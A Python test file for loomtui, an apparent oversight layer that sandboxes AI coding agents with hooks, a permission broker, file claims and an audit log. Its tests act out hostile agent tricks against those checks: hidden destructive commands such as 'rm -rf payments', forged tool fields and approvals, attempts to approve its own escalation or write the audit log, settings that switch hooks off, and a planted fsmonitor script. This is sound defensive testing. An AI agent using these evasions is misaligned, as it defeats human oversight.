    """CLAUDE.md in a sandbox is loomtui's slice, kept out of its commits: an edit was allowed, reported
    done to the model, and then lost."""
    from loomtui.store import SandboxRecord

    now = time.time()
    ws.store.add_sandbox(SandboxRecord(id="agent-1", task="t", runtime="claude", status="running", created=now,
                                       updated=now, data={"context_files": ["CLAUDE.md"]}))
    gate = HookGate(ws, "agent-1", billing)
    answer = gate.check_tool("Edit", [{"path": "CLAUDE.md"}], tool_use_id="t1")
    assert answer.decision == "deny" and answer.reason.startswith(
        "CLAUDE.md here is loomtui's context for this task, not the repository's own CLAUDE.md"), answer
    assert gate.check_tool("Write", [{"path": "docs/CLAUDE.md"}]).decision != "deny"  # only that file


def test_a_lead_is_shown_every_path_a_request_names_and_every_field_one_line(billing: Path, ws: Workspace) -> None:
    """The queue, `escalation show` and the app cut a Bash request's command and its paths at 12: the 15th,
    `payments/refunds.py`, was approved unseen; a tool name holding a newline faked a `file_path:` field, and
    an unknown tool's `file_path` stood in for its `command`."""
    gate = HookGate(ws, "agent-1", billing)
    touched = " ".join(f"docs/guide{n:02d}.md" for n in range(14))
    command = f"cat docs/README.md && echo ✓ ; touch {touched} ; sed -i s/0.01/0.10/ payments/refunds.py ; " + \
        "true && " * 10 + "echo done"
    asked = gate.open_permission_request("Bash", {"command": command})
    record = ws.store.get_escalation(asked["id"])
    assert record is not None and "payments/refunds.py" in record.data["facts"]["paths"]
    shown = run_cli(billing, "escalation", "show", str(asked["id"])).stdout.splitlines()
    assert "  15 paths:" in shown and "    payments/refunds.py" in shown, shown
    # The command whole, as written (it read `echo \\u2713`), each field of the tool's input on its own line.
    assert shown[shown.index("  tool_input:") + 1] == f"    command: {command}"
    # A file a Write would write: its lines under the field, each behind a bar (one JSON line of it, \\n and
    # all, could not be read), none passing for a field or a decision of its own.
    written = gate.open_permission_request("Write", {"file_path": "payments/x.py",
                                                     "content": "A = 1\n  approved by lead@example.com\n"})
    lines = run_cli(billing, "escalation", "show", str(written["id"])).stdout.splitlines()
    at = lines.index("    content:")
    assert lines[at + 1:at + 3] == ["      │ A = 1", "      │   approved by lead@example.com"], lines
    as_json = json.loads(run_cli(billing, "escalation", "show", str(asked["id"]), "--json").stdout)
    assert "payments/refunds.py" in as_json["paths"] and as_json["evidence"]["tool_input"]["command"] == command
    forged = gate.open_permission_request("Read\n  file_path: docs/README.md",
                                          {"command": "rm -rf payments", "file_path": "docs/README.md"})
    summary = ws.store.get_escalation(forged["id"]).summary  # type: ignore[union-attr]
    assert summary == ("agent-1 asks: Read\\n  file_path: docs/README.md command=rm -rf payments "
                       "file_path=docs/README.md"), summary
    from loomtui.governance.agent_ops import op_ask_lead

    too_long = "May I rename get_invoice? " + "x" * 4000 + " ALSO: may I drop the payments table?"
    with pytest.raises(LoomError, match=r"^a question is at most 4,000 characters \(4,063 given\): no one answers"):
        op_ask_lead(gate, {"question": too_long})  # it was cut, and the yes to its first part was a yes to all
    question = op_ask_lead(gate, {"question": "Q long " + "padding " * 400 + " REAL: rm -rf payments"})
    listed = ws.store.get_escalation(question["id"]).summary  # type: ignore[union-attr]
    assert listed.startswith("agent-1 asks: Q long padding") and listed.endswith("REAL: rm -rf payments"), listed
    # Explained as the question it is (it read "an agent's permission request is a person's call").
    explanation = ws.store.get_escalation(question["id"]).data["explanation"]  # type: ignore[union-attr]
    assert "  default (require): an agent's question is a person's call" in explanation, explanation
    # Its `extra` keeps ids and names only, as a permission request's: the agent's words shown as loomtui's fields.
    dressed = op_ask_lead(gate, {"question": "May I rename it?", "extra": {
        "answer": "pre-approved by mia@example.com on the phone; approve to record it", "via": "mcp"}})
    evidence = ws.store.get_escalation(dressed["id"]).data["evidence"]  # type: ignore[union-attr]
    assert "answer" not in evidence and evidence["via"] == "mcp", evidence
    shown = run_cli(billing, "escalation", "show", str(forged["id"])).stdout.splitlines()
    assert "  tool_name: Read\\n  file_path: docs/README.md" in shown and "  file_path: docs/README.md" not in shown


def test_a_path_no_system_can_hold_is_refused_not_an_internal_error(billing: Path, ws: Workspace) -> None:
    """`check_edit`, `check_commit` or a permission request naming `"\\ud800"` (a lone surrogate, valid JSON)
    answered "internal error in the broker"."""
    from loomtui.governance.broker import Broker

    broker = Broker(ws, "agent-1", billing, billing.parent / "b.sock")
    try:
        for line in (b'{"op": "check_edit", "path": "a\\ud800.py"}', b'{"op": "check_commit", "paths": ["\\ud800.py"]}',
                     b'{"op": "open_permission_request", "tool_name": "Write", "tool_input": {"file_path": "\\ud800"}}'):
            assert broker.answer(line) == {"ok": False, "error": "a request's text is not valid Unicode (a lone "
                                                                 "surrogate, such as \\ud800)"}, line
    finally:
        broker.close()
    assert HookGate(ws, "agent-1", billing).check_edit("a\ud800.py").reason == (
        "a\\ud800.py is no file name: it cannot be encoded")  # in this process, no broker between
    # From Claude Code's hook input itself: the file was read before it was asked ("internal error").
    for tool, tool_input, cwd in (
            ("Edit", {"file_path": "src/\ud800.py", "old_string": "a", "new_string": "b"}, str(billing)),
            ("Bash", {"command": "echo x > \ud800.py"}, str(billing)),
            ("Write", {"file_path": "a.py", "content": "y"}, f"{billing}/\ud800")):  # in the call's cwd
        done = hook({**payload(billing, tool, tool_input), "cwd": cwd}, "--sandbox", "agent-1")
        assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr
        assert "it cannot be encoded" in done.stderr or "is no directory name" in done.stderr, done.stderr
        assert "internal error" not in done.stderr

def test_a_request_nested_to_the_parsers_limit_is_refused_not_an_internal_error(billing: Path, ws: Workspace) -> None:
    """Parsed in the broker's reading thread, checked in its worker, where the stack already held more:
    `[` nested 990 deep answered "internal error in the broker"."""
    from loomtui.governance.broker import Broker

    broker = Broker(ws, "agent-1", billing, billing.parent / "b.sock")
    answers = []
    try:
        for depth in range(940, 1000):
            line = b'{"op": "check_edit", "path": "a.py", "x": ' + b"[" * depth + b"]" * depth + b"}"
            # A connection's thread reads it, as in the broker: the test's own stack is deeper.
            reader = threading.Thread(target=lambda line=line: answers.append(broker.answer(line)))
            reader.start()
            reader.join()
    finally:
        broker.close()
    errors = {answer.get("error") for answer in answers}  # shallower ones are answered as asked
    assert "a request's values nest too deep" in errors and not any("internal" in str(e) for e in errors), errors


def test_an_agent_claims_so_many_files_in_all(billing: Path, ws: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    """Twenty files a claim, one claim after another: one agent held every file of the repository."""
    from loomtui.governance.agent_ops import op_claim, op_release
    from loomtui.governance.hooks import holding

    monkeypatch.setattr(holding, "MAX_AGENT_HELD_FILES", 2)
    gate = HookGate(ws, "agent-1", billing)
    assert op_claim(gate, {"target": "api/handlers.py"})["claimed"] is True
    assert op_claim(gate, {"target": "customers/service.py"})["claimed"] is True
    assert op_claim(gate, {"target": "customers/service.py"})["claimed"] is True  # held already: no more files
    third = op_claim(gate, {"target": "storage/ids.py"})
    assert third["claimed"] is False and "hold 2 files: an agent's claims hold at most 2" in third["reason"]
    assert [e.details["reason"] for e in ws.audit.entries() if e.action == "agent.claim_refused"] == [third["reason"]]
    op_release(gate, {"target": "api/handlers.py"})
    assert op_claim(gate, {"target": "storage/ids.py"})["claimed"] is True
    # A person's claims, given before the agent started, are not its to release: they do not count.
    from loomtui.store import SandboxRecord

    now = time.time()
    ws.store.add_sandbox(SandboxRecord(id="agent-2", task="t", runtime="claude", status="running", created=now,
                                       updated=now))
    governed_coordinator(ws).claim("agent-2", "payments/ledger.py")
    governed_coordinator(ws).claim("agent-2", "payments/money.py")
    ws.store.update_sandbox("agent-2", data={"started_at": time.time()})
    second = HookGate(ws, "agent-2", billing)
    assert op_claim(second, {"target": "notifications/sms.py"})["claimed"] is True


def test_an_agents_edits_claim_so_many_files_it_has_not_changed(billing: Path, ws: Workspace,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """An edit's claim was taken past any bound: an agent talking to its hook claimed every file of the
    repository, one edit it never made after another (confirmed by its word, or asked without a call id)."""
    from loomtui.governance.hooks import holding

    monkeypatch.setattr(holding, "MAX_AGENT_HELD_FILES", 2)
    record = tasks.create_sandbox(ws, "edit", "script", script=_script(billing), isolate=False)
    tree = Path(record.worktree)
    gate = HookGate(ws, record.id, tree)
    assert gate.check_tool("Edit", [{"path": "api/handlers.py"}], tool_use_id="t1").decision == "allow"
    assert gate.confirm_tool_use("t1")  # its word: nothing was written
    assert gate.check_edit("customers/service.py").decision == "allow"
    third = gate.check_tool("Write", [{"path": "storage/ids.py"}], tool_use_id="t2")
    assert third.decision == "deny" and third.reason == (
        "this sandbox's claims hold 2 files it has not changed: an agent's claims hold at most 2 such files "
        "(release what it will not edit)"), third
    assert gate.check_edit("storage/ids.py").decision == "deny"
    assert {r for c in ws.store.live_claims(record.id) for r in c.region_ids} == {"api/handlers.py",
                                                                                  "customers/service.py"}
    # Files it has changed are its to finish: they do not count, and its edits go on.
    (tree / "api" / "handlers.py").write_text((tree / "api" / "handlers.py").read_text() + "# changed\n")
    assert gate.check_tool("Write", [{"path": "storage/ids.py"}], tool_use_id="t3").decision == "allow"
    assert gate.check_edit("api/handlers.py").decision == "allow"  # held already
    fourth = gate.check_tool("Edit", [{"path": "notifications/sms.py"}, {"path": "payments/money.py"}],
                             tool_use_id="t4")
    assert fourth.decision == "deny" and "hold 2 files it has not changed" in fourth.reason, fourth
    # Changed, claimed, put back: at its end what it holds of files its change does not touch goes (every file
    # was held through its review, the worktree clean but for one line).
    (tree / "customers" / "service.py").write_text((tree / "customers" / "service.py").read_text() + "# kept\n")
    git(tree, "checkout", "--", "api/handlers.py")
    assert len(gate.release_unchanged()) == 2
    assert {r for c in ws.store.live_claims(record.id) for r in c.region_ids} == {"customers/service.py"}


def test_a_connection_the_broker_dropped_while_idle_is_opened_again(billing: Path, ws: Workspace, tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """The broker closes a connection idle for IDLE_TIMEOUT_S; the MCP server's client, alive for a
    whole session, then denied every permission prompt ("Broken pipe") for the rest of it."""
    from loomtui.governance import broker as broker_module

    monkeypatch.setattr(broker_module._Handler, "timeout", 0.2)
    socket_path = tmp_path / "broker.sock"
    broker = Broker(ws, "agent-1", billing, socket_path)
    broker.start()
    client = BrokerClient(socket_path)
    try:
        assert client.request("my_claims")["ok"]
        time.sleep(0.6)  # idle past the broker's timeout: it closes its end
        assert client.request("my_claims")["ok"]  # and again, on a new connection
        assert client.request("my_claims")["ok"]
    finally:
        client.close()
        broker.close()


def test_the_broker_serves_so_many_connections_at_once_and_refuses_the_rest(
        billing: Path, ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """2,000 idle connections took 2,000 threads (and a gigabyte) in the supervisor, outside the sandbox."""
    import socket

    from loomtui.governance import broker as broker_module

    monkeypatch.setattr(broker_module, "MAX_CONNECTIONS", 3)
    socket_path = tmp_path / "broker.sock"
    broker = Broker(ws, "agent-1", billing, socket_path)
    broker.start()
    idle = []
    try:
        for _ in range(3):
            held = socket.socket(socket.AF_UNIX)
            held.connect(str(socket_path))
            idle.append(held)
        extra = socket.socket(socket.AF_UNIX)
        extra.connect(str(socket_path))
        extra.settimeout(5)
        assert b"more than 3 connections at once" in extra.recv(4096)
        extra.close()
        idle.pop().close()  # one goes: a new one is served again
        client = BrokerClient(socket_path)
        deadline = time.monotonic() + 5
        while True:
            try:
                assert client.request("my_claims")["ok"]
                break
            except BrokerError:
                assert time.monotonic() < deadline, "no slot came free"
                client.close()
                client = BrokerClient(socket_path)
                time.sleep(0.05)
        client.close()
    finally:
        for held in idle:
            held.close()
        broker.close()



def test_a_large_request_waits_for_the_one_large_slot(billing: Path, ws: Workspace, tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """Eight connections sending 16 MB lines at once held them all, parsed: 3.5 GB of the supervisor."""
    import socket

    from loomtui.governance import broker as broker_module

    monkeypatch.setattr(broker_module, "SMALL_REQUEST_BYTES", 1000)
    socket_path = tmp_path / "broker.sock"
    broker = Broker(ws, "agent-1", billing, socket_path)
    broker.start()
    connections = []

    def connect() -> socket.socket:
        held = socket.socket(socket.AF_UNIX)
        held.connect(str(socket_path))
        held.settimeout(5)
        connections.append(held)
        return held

    def large(pad: str) -> bytes:
        return json.dumps({"op": "my_claims", "pad": pad * 3000}).encode() + b"\n"

    try:
        first, second, small = connect(), connect(), connect()
        first_line = large("a")
        first.sendall(first_line[:2000])  # a large line, not yet whole: it holds the large slot
        time.sleep(0.3)
        second.sendall(large("b"))
        small.sendall(b'{"op": "my_claims"}\n')
        assert json.loads(small.recv(4096))["ok"]  # small lines are answered meanwhile
        second.settimeout(0.5)
        with pytest.raises(TimeoutError):
            second.recv(4096)  # the second large one waits for the first
        first.sendall(first_line[2000:])
        assert json.loads(first.recv(4096))["ok"]
        second.settimeout(5)
        assert json.loads(second.recv(4096))["ok"]
    finally:
        for held in connections:
            held.close()
        broker.close()


def test_a_line_whose_string_never_closes_is_counted_in_one_pass() -> None:
    """Each quote of `"\\"\\"...` (never closed) rescanned the rest of the line, holding the interpreter's lock:
    100 KB froze the whole supervisor (its log, its agent's end, its timeouts) for 49 s; 2 MB, for hours."""
    probe = ("from loomtui.governance.broker import _values_in\n"
             "print(_values_in(b'{\"op\": \"x\", \"pad\": \"' + b'\\\\\"' * 1_000_000))")
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=60, check=False)
    assert (done.returncode, done.stdout) == (0, "1\n"), done.stderr


def test_a_request_past_the_broker_s_limit_is_refused_saying_so(
        billing: Path, ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A Write of 20 MB: the broker read 16 MiB, said so and closed, and the agent read "the loomtui broker closed
    the connection" (its write failed before the answer was read)."""
    from loomtui.governance.hooks import client as client_module

    monkeypatch.setattr(client_module, "MAX_REQUEST_BYTES", 1000)
    broker = Broker(ws, "agent-1", billing, tmp_path / "broker.sock")
    broker.listen()
    broker.start()
    try:
        client = BrokerClient(tmp_path / "broker.sock", timeout=10)
        with pytest.raises(BrokerError, match=r"is 2,0\d\d bytes, over the 1,000 the loomtui broker reads; "
                                              "write a file this large in parts"):
            client.request("my_claims", pad="x" * 2000)
        assert client.request("my_claims")["ok"]  # the connection is still of use
        client.close()
    finally:
        broker.close()


def test_a_large_request_of_too_many_values_is_refused_before_it_is_parsed(
        billing: Path, ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """16 MB of `[],` parses to 5.6 million lists (480 MB); commas inside strings are not values."""
    from loomtui.governance import broker as broker_module

    monkeypatch.setattr(broker_module, "SMALL_REQUEST_BYTES", 1000)
    monkeypatch.setattr(broker_module, "MAX_REQUEST_VALUES", 100)
    broker = Broker(ws, "agent-1", billing, tmp_path / "broker.sock")
    try:
        many = json.dumps({"op": "my_claims", "pad": [[]] * 500}).encode()
        assert broker.answer(many) == {"ok": False, "error": "a request holds at most 100 values"}
        few = json.dumps({"op": "my_claims", "pad": [[]] * 50, "text": 'a, "b", [c],' * 500}).encode()
        assert broker.answer(few)["ok"]
    finally:
        broker.close()


def test_requests_past_the_broker_s_rate_are_refused_and_said_not_each_audited(
        billing: Path, ws: Workspace, tmp_path: Path) -> None:
    """One agent's hook requests, each audited with a 4,000-character path, wrote 35 MB a second into the store and
    the hash-chained log: past a burst and a steady rate each is refused, counted in one entry a minute."""
    from loomtui.governance import broker as broker_module

    broker = Broker(ws, "agent-1", billing, tmp_path / "broker.sock")
    now = [0.0]
    broker.budget = broker_module.RequestBudget(clock=lambda: now[0])
    far = json.dumps({"op": "check_edit", "path": "/etc/" + "p" * 4000}).encode()
    try:
        answers = [broker.answer(far) for _ in range(broker_module.REQUEST_BURST + 5)]
        assert [a["ok"] for a in answers].count(True) == broker_module.REQUEST_BURST
        assert answers[-1]["error"].startswith("too many requests: at most 20 a second after a burst of 300")
        now[0] += 1.0
        assert sum(broker.answer(far)["ok"] for _ in range(30)) == broker_module.REQUEST_RATE
        # A hook waiting on a lead polls, and may withdraw its question: never refused (eight such waits were).
        poll = json.dumps({"op": "escalation_status", "id": 1}).encode()
        assert all("too many requests" not in str(broker.answer(poll).get("error")) for _ in range(100))
        # An op of no name is answered and charged (`{"op": []}` raised past the budget: a log line each, unanswered).
        assert broker.answer(json.dumps({"op": []}).encode())["ok"] is False
    finally:
        broker.close()
    entries = [e for e in ws.audit.entries() if e.subject == "agent-1"]
    refused = [e.details["refused"] for e in entries if e.action == "broker.requests_refused"]
    assert refused == [1, 15], refused  # the first at once, the rest (the op of no name too) as the broker closed
    edits = [e for e in entries if e.action == "hook.edit"]
    assert len(edits) == broker_module.REQUEST_BURST + 20
    assert max(len(json.dumps(e.details)) for e in edits) < 1000  # the path cut to 200 characters


PROBE = """\
import json, os, sqlite3, subprocess, sys
from pathlib import Path
from loomtui.governance.broker import BrokerClient, BrokerError

tree = Path.cwd()
state = Path(os.environ["LOOM_REPO"]) / ".git" / "loom"
service = tree / "customers" / "service.py"
text = service.read_text()
results = {}

client = BrokerClient(Path(os.environ["LOOM_BROKER"]))  # any request line, as a hostile agent could send

def broker(op, **fields):
    try:
        return client.request(op, **fields)
    except BrokerError as exc:
        return {"ok": False, "error": str(exc)}

hook_input = {"session_id": "s", "cwd": str(tree), "hook_event_name": "PreToolUse", "tool_name": "Edit",
              "tool_input": {"file_path": str(service), "old_string": GET_LINE, "new_string": NEW_GET}}
done = subprocess.run([sys.executable, "-m", "loomtui", "hook", "claude"], input=json.dumps(hook_input),
                      capture_output=True, text=True)
results["hook"] = [done.returncode, done.stdout and json.loads(done.stdout), done.stderr]
results["state_dir"] = sorted(os.listdir(state))
results["as_other"] = broker("check_edit", sandbox="other-agent", path=str(service), lines=[65, 65])
results["approve"] = broker("approve", id=ESCALATION)
results["status"] = broker("escalation_status", id=ESCALATION)
try:
    with open(state / "audit.jsonl", "a") as log:
        log.write("forged")
    results["audit_write"] = "written"
except OSError as exc:
    results["audit_write"] = exc.strerror
try:
    db = sqlite3.connect(state / "state.db")
    db.execute("UPDATE escalations SET status = 'approved'")
    db.commit()
    results["store_write"] = "written"
except sqlite3.Error as exc:
    results["store_write"] = str(exc)
decide = ("import os; from loomtui.workspace import open_workspace; from loomtui.governance.escalations import decide;"
          "from loomtui.governance.policy import load_policy; ws = open_workspace(os.environ['LOOM_REPO']);"
          "decide(ws, load_policy(ws.root, '.loom/policy.yaml'), ESCALATION, 'approve')")
# Without LOOM_SANDBOX and claiming to be a lead, the read-only store is the wall left.
as_lead = {**{k: v for k, v in os.environ.items() if k != "LOOM_SANDBOX"}, "LOOM_USER": "lead@example.com"}
for name, env in (("decide", os.environ), ("decide_unset", as_lead)):
    done = subprocess.run([sys.executable, "-c", decide], env=env, capture_output=True, text=True)
    results[name] = done.stderr.strip().splitlines()[-1] if done.returncode else "decided"
service.write_text(text.replace(GET_LINE, NEW_GET))
subprocess.run(["git", "add", "-A"], check=True)
done = subprocess.run(["git", "commit", "-qm", "own region"], capture_output=True, text=True)
results["commit_own"] = done.returncode
service.write_text(service.read_text().replace("lower()", "casefold()"))
subprocess.run(["git", "add", "-A"], check=True)
done = subprocess.run(["git", "commit", "-qm", "their region"], capture_output=True, text=True)
results["commit_theirs"] = [done.returncode, done.stderr.strip()]
subprocess.run(["git", "reset", "-q", "--hard"], check=True)
print(json.dumps(results), flush=True)
"""


@needs_bwrap
def test_a_bubblewrapped_agent_claims_through_the_broker_but_cannot_write_or_decide(
        billing: Path, ws: Workspace, tmp_path: Path) -> None:
    new_get = GET_LINE.replace("customer_id)", "customer_id.strip())")
    probe = tmp_path / "probe_agent"  # the runtime's program (the person's checkout is empty to the sandbox)
    config_path = billing / ".loom" / "loom.yaml"
    config = yaml.safe_load(config_path.read_text())
    config["runtimes"]["probe"] = {"argv": [str(probe)], "mode": "headless", "network": False}
    config_path.write_text(yaml.safe_dump(config))
    probe.write_text("#!/bin/sh\n")  # written whole below, once the escalation it asks about exists
    probe.chmod(0o755)
    record = tasks.create_sandbox(ws, "probe the broker", "probe", isolate=True)
    escalation = HookGate(ws, record.id, Path(record.worktree)).open_permission_request(
        "Bash", {"command": "make deploy"})["id"]
    probe.write_text(f"#!{sys.executable}\n" + PROBE.replace("GET_LINE", repr(GET_LINE))
                     .replace("NEW_GET", repr(new_get)).replace("ESCALATION", str(escalation)))
    governed_coordinator(ws).claim("other-agent", f"{SERVICE}::CustomerService.find_by_email")
    audit_before = ws.paths.audit_path.read_bytes()

    tasks.start(ws, record.id)
    done = agent_ended(ws, record.id)
    assert done.exit_code == 0 and "sandbox.failed" not in [e.action for e in ws.audit.entries()
                                                             if e.subject == record.id], sb.read_log_tail(ws, record.id, 20)
    results = json.loads(sb.read_log_tail(ws, record.id, 1)[0])

    code, answer, _err = results["hook"]
    assert code == 0 and answer["hookSpecificOutput"]["permissionDecision"] == "allow"
    assert claimed(ws, record.id) == {f"{SERVICE}::CustomerService.get"}
    # The broker speaks for its own sandbox whatever the request says.
    assert results["as_other"]["decision"] == "deny" and "held by sandbox other-agent" in results["as_other"]["reason"]
    assert results["approve"]["ok"] is False and "never decide" in results["approve"]["error"]
    assert results["status"] == {"ok": True, "id": escalation, "status": "open", "decision": None,
                                 "message": f"waiting for a decision on escalation #{escalation}"}
    assert results["audit_write"] == "Read-only file system"
    assert results["store_write"] != "written"
    # Nor read: every sandbox's escalations and evidence are in the store, which is not there (the
    # objects the public refs reach are, read-only: its git reads them).
    assert results["state_dir"] == ["hooks", "published-objects", "sandboxes"], results["state_dir"]
    for attempt in ("decide", "decide_unset"):  # claiming to be a lead too
        assert "StoreError" in results[attempt] and "cannot write the state store here" in results[attempt]
    assert ws.store.get_escalation(escalation).status == "open"  # type: ignore[union-attr]
    assert results["commit_own"] == 0
    refused_code, refused = results["commit_theirs"]
    assert refused_code != 0 and "commit refused" in refused and "held by sandbox other-agent" in refused
    assert git(billing, "log", "-1", "--format=%s", record.branch) == "own region"
    # The broker wrote for the agent: its answers and the claim are in an intact audit log.
    actions = [e.action for e in ws.audit.entries() if e.subject == record.id]
    assert {"hook.edit", "claim.added", "hook.commit_refused"} <= set(actions)
    assert ws.paths.audit_path.read_bytes().startswith(audit_before) and ws.audit.verify().ok
    assert not sb.sandbox_paths(ws.paths, record.id).broker.exists()


# -- install and the git pre-commit hook ---------------------------------------------------------


def test_install_merges_settings_and_keeps_them_out_of_the_sandboxs_commits(billing: Path, ws: Workspace) -> None:
    record = tasks.create_sandbox(ws, "plain", "script", script=_script(billing), isolate=False)
    tree = Path(record.worktree)
    settings = json.loads((tree / ".claude/settings.json").read_text())
    assert [g["matcher"] for g in settings["hooks"]["PreToolUse"]] == ["Edit|Write|MultiEdit|NotebookEdit|Bash"]
    assert settings["hooks"]["PermissionRequest"][0]["hooks"][0]["command"].endswith("hook claude --timeout 120")
    assert git(tree, "status", "--porcelain") == ""
    assert git(tree, "config", "loom.sandbox") == record.id
    # Only this worktree ignores it: the main checkout still sees a new settings file.
    (billing / ".claude").mkdir()
    (billing / ".claude/settings.json").write_text('{"model": "opus"}\n')
    assert "?? .claude/" in git(billing, "status", "--porcelain")

    # A tracked settings file: merged (the team's settings kept), and hidden from this sandbox's commits.
    team = {"permissions": {"allow": ["Bash(pytest:*)"]},
            "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "audit-bash"}]}]}}
    (billing / ".claude/settings.json").write_text(json.dumps(team))
    git(billing, "add", ".claude/settings.json")
    git(billing, "commit", "-qm", "team settings")
    record = tasks.create_sandbox(ws, "tracked", "script", script=_script(billing), isolate=False)
    tree = Path(record.worktree)
    merged = json.loads((tree / ".claude/settings.json").read_text())
    assert merged["permissions"] == team["permissions"]
    assert [h["command"] for g in merged["hooks"]["PreToolUse"] for h in g["hooks"]][0] == "audit-bash"
    assert git(tree, "status", "--porcelain") == ""
    done = subprocess.run([*LOOMTUI, "hook", "install", "--sandbox", record.id], cwd=billing, env=clean_env(),
                          capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    again = json.loads((tree / ".claude/settings.json").read_text())
    commands = [h["command"] for g in again["hooks"]["PreToolUse"] for h in g["hooks"]]
    assert len(commands) == 2 and commands[0] == "audit-bash"  # ours replaced, not added twice
    assert len(again["hooks"]["PermissionRequest"]) == 1 and again["permissions"] == team["permissions"]

    # Settings a repository (or an agent, merged) carries that would switch the gate off: taken out of the
    # sandbox's copy, tracked or local, and never part of its commits. Claude Code obeyed them.
    off = {"disableAllHooks": True, "permissions": {"defaultMode": "bypassPermissions", "allow": ["Bash"]}}
    (billing / ".claude/settings.json").write_text(json.dumps({**team, **off}))
    (billing / ".claude/settings.local.json").write_text(json.dumps(off))
    git(billing, "add", ".claude")
    git(billing, "commit", "-qm", "settings that switch hooks off")
    record = tasks.create_sandbox(ws, "gated still", "script", script=_script(billing), isolate=False)
    tree = Path(record.worktree)
    for name in ("settings.json", "settings.local.json"):
        kept = json.loads((tree / ".claude" / name).read_text())
        assert "disableAllHooks" not in kept and kept["permissions"] == {"allow": ["Bash"]}, name
    assert git(tree, "status", "--porcelain") == ""


def test_hook_install_waits_for_a_worktree_being_added(billing: Path, ws: Workspace) -> None:
    """Two `sandbox new` at once: `git config --worktree` reads every worktree, and died on the other's being
    added (`failed to read .git/worktrees/<id>/commondir: Success`), failing that sandbox's start. Its install
    waits for the lock every `worktree add` holds."""
    record = tasks.create_sandbox(ws, "plain", "script", script=_script(billing), isolate=False)
    half_made = billing / ".git" / "worktrees" / "being-added"
    adding, added = threading.Event(), threading.Event()

    def add_another() -> None:  # as `git worktree add` does, under loomtui's lock
        with ws.paths.worktrees_locked():
            half_made.mkdir()
            (half_made / "gitdir").write_text(f"{billing.parent / 'being-added' / '.git'}\n")
            (half_made / "commondir").write_text("")
            adding.set()
            added.wait(0.5)
            (half_made / "commondir").unlink()
            (half_made / "gitdir").unlink()
            half_made.rmdir()

    other = threading.Thread(target=add_another)
    other.start()
    try:
        assert adding.wait(10)
        install_hooks(ws, Path(record.worktree), record.id)
    finally:
        added.set()
        other.join()
    assert git(Path(record.worktree), "config", "loom.sandbox") == record.id


def test_the_worktrees_lock_nested_holds_to_the_outermost_and_a_process_run_under_it_does_not_wait(
        billing: Path, ws: Workspace) -> None:
    """An inner hold let go of the record lock as it closed its own file, the outer one's work unguarded; and a
    person's git hook run at a merge (under the lock) that ran `loomtui` waited for its own parent for ever."""
    from loomtui.repo import WORKTREES_LOCK_HELD_ENV

    probe = ("import fcntl, sys\nwith open(sys.argv[1], 'a+b') as f:\n    try:\n"
             "        fcntl.lockf(f, fcntl.LOCK_EX | fcntl.LOCK_NB)\n    except OSError:\n        sys.exit(3)\n")
    lock_file = ws.paths.state_dir / "worktrees.lock"

    def held_elsewhere() -> bool:
        return subprocess.run([sys.executable, "-c", probe, str(lock_file)], check=False).returncode == 3

    with ws.paths.worktrees_locked():
        with ws.paths.worktrees_locked():
            assert held_elsewhere()
        assert held_elsewhere()  # still, after the inner one
    assert not held_elsewhere()
    under = ("import sys\nfrom loomtui.workspace import open_workspace\n"
             "with open_workspace(sys.argv[1]).paths.worktrees_locked():\n    print('through')\n")
    with ws.paths.worktrees_locked():
        done = subprocess.run([sys.executable, "-c", under, str(billing)], capture_output=True, text=True,
                              timeout=60, env={**os.environ, WORKTREES_LOCK_HELD_ENV: "1"}, check=False)
    assert done.stdout.strip() == "through", done.stderr


def test_hook_install_on_a_sandbox_runs_nothing_its_agent_planted_and_copies_no_file_it_names(
        billing: Path, ws: Workspace, tmp_path: Path) -> None:
    """The agent's worktree is its own: its `.git` file may name a git dir of its making with an fsmonitor,
    and its config.worktree an excludes file to copy (a key). `hook install --sandbox` ran the one as the
    lead, outside any sandbox, and would have copied the other into the agent's reach."""
    record = tasks.create_sandbox(ws, "planted", "script", script=_script(billing), isolate=False)
    tree, admin = Path(record.worktree), Path(record.data["git_dir"])
    marker, secret = tmp_path / "PWNED", tmp_path / "id_secret"
    secret.write_text("SECRET-KEY\n")
    planted = tree / "pwn.sh"
    planted.write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n")
    planted.chmod(0o755)
    git(tree, "init", "-q", "--bare", str(tree / ".gd"))
    git(tree, "--git-dir", str(tree / ".gd"), "config", "core.bare", "false")
    git(tree, "--git-dir", str(tree / ".gd"), "config", "core.fsmonitor", str(planted))
    (admin / "config.worktree").write_text(f"[core]\n\tfsmonitor = {planted}\n\texcludesFile = {secret}\n")
    (tree / ".git").write_text(f"gitdir: {tree / '.gd'}\n")
    done = run_cli(billing, "hook", "install", "--sandbox", record.id)
    assert done.returncode == 0, done.stderr
    assert not marker.exists()
    assert "SECRET-KEY" not in (admin / "loom-exclude").read_text()
    assert json.loads((tree / SETTINGS_PATH).read_text())["hooks"]["PreToolUse"]
    assert git(billing, "config", "-f", str(admin / "config.worktree"), "loom.sandbox") == record.id


def test_after_hook_install_in_ones_own_checkout_an_agents_uncommitted_work_is_saved_and_reviewed(
        billing: Path, ws: Workspace) -> None:
    """`hook install` in the main checkout gives it an excludes file listing its hook settings; loomtui
    reads a sandbox from the common git dir, where git also reads that checkout's config, and naming
    the settings file to leave out then failed every save: the work was left unsaved, said nowhere."""
    quick_gates(billing)
    done = subprocess.run([*LOOMTUI, "hook", "install"], cwd=billing, env=clean_env(), capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert git(billing, "config", "--worktree", "core.excludesFile").endswith("loom-exclude")
    record = tasks.create_sandbox(ws, "a note", "command", command=["sh", "-c", "echo noted > NOTE.md"],
                                  isolate=False)
    ended = agent_ended(ws, tasks.start(ws, record.id).id)
    assert git(billing, "show", f"{record.branch}:NOTE.md") == "noted"
    assert ended.status in ("awaiting_review", "approved", "merged") and "save_error" not in ended.data, ended.data


